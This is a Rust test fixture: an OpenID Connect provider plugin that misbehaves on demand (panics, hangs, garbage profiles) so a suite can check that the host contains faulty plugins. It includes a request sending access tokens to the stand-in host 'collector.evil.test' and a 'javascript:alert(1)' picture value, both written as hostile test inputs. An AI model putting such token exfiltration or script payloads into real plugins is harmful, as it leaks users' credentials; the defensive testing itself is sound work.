//! Test fixture plugin: an OpenID Connect provider that misbehaves on demand. `map_profile`
//! panics for any user whose email starts with `panic` and hangs for 3 s (as a looping plugin
//! would) for `hang`; `profile_requests` asks the host to
//! send the access token to a foreign origin for any user whose email starts with `exfil`;
//! `map_profile` returns garbage for `junk` (huge name, bad picture, 20,000 groups) and an
//! email that is not one for `bademail`.
//! With `configure_fails_while` set to a path, `configure` refuses while a file is there (the
//! one file access any plugin makes, and only this test fixture): a daemon must retry
//! building an instance that failed, as one whose plugin call overran would.
//! The suite uses it to prove that a plugin panic is answered with `internal`, that the
//! provider's actor is restarted and serving goes on, and that the host keeps tokens home.

use lanyard_provider_sdk::{
    export_provider, setting_str, ConfigField, ConfigureInput, Description, Endpoints, HttpRequest,
    MapProfileInput, Profile, ProfileRequestsInput, Protocol, Provider, ProviderError,
};

#[derive(Debug, Default)]
pub struct Panicky;

impl Provider for Panicky {
    const KIND: &'static str = "panicky";

    fn describe(&self) -> Description {
        Description {
            display_name: "Panicky (test fixture)".into(),
            protocol: Protocol::Oidc,
            default_scopes: vec!["openid".into(), "email".into()],
            config_fields: vec![
                ConfigField::required("issuer", "The issuer URL."),
                ConfigField::optional(
                    "configure_fails_while",
                    "A file path: configuring fails while it exists (tests).",
                ),
            ],
            ..Description::default()
        }
    }

    fn configure(&self, input: &ConfigureInput) -> Result<Endpoints, ProviderError> {
        if let Some(flag) = setting_str(&input.settings, "configure_fails_while") {
            if std::path::Path::new(flag).exists() {
                return Err(ProviderError::invalid_config(format!(
                    "{flag} exists, so this fixture refuses to be configured"
                )));
            }
        }
        Ok(Endpoints {
            issuer: setting_str(&input.settings, "issuer").map(str::to_owned),
            ..Endpoints::default()
        })
    }

    fn profile_requests(
        &self,
        input: &ProfileRequestsInput,
    ) -> Result<Vec<HttpRequest>, ProviderError> {
        let email = input.claims.as_ref().and_then(|c| c["email"].as_str());
        Ok(match email {
            Some(e) if e.starts_with("exfil") => {
                vec![HttpRequest::get(
                    "steal",
                    "https://collector.evil.test/token",
                )]
            }
            _ => Vec::new(),
        })
    }

    fn map_profile(&self, input: &MapProfileInput) -> Result<Profile, ProviderError> {
        let claims = input.claims.clone().unwrap_or_default();
        let email = claims["email"].as_str().unwrap_or_default().to_owned();
        if email.starts_with("panic") {
            panic!("the panicky fixture was asked to map {email}");
        }
        if email.starts_with("hang") {
            // Stuck, as a looping plugin would be (bounded, so test processes can exit).
            std::thread::sleep(std::time::Duration::from_secs(3));
        }
        let subject = claims["sub"].as_str().unwrap_or_default().to_owned();
        if email.starts_with("junk") {
            // Garbage a buggy plugin could return: the host must bound or drop it.
            return Ok(Profile {
                subject,
                email: Some(email),
                email_verified: true,
                name: Some("N".repeat(100_000)),
                username: Some("bell\u{7}".into()),
                picture: Some("javascript:alert(1)".into()),
                groups: (0..20_000)
                    .map(|i| format!("group-{i}"))
                    .chain(["x".repeat(5000)])
                    .collect(),
                raw: claims,
            });
        }
        if email.starts_with("bademail") {
            return Ok(Profile {
                subject,
                email: Some("not an email".into()),
                email_verified: true,
                raw: claims,
                ..Profile::default()
            });
        }
        Ok(Profile {
            subject,
            email: Some(email),
            email_verified: true,
            raw: claims,
            ..Profile::default()
        })
    }
}

export_provider!(Panicky);
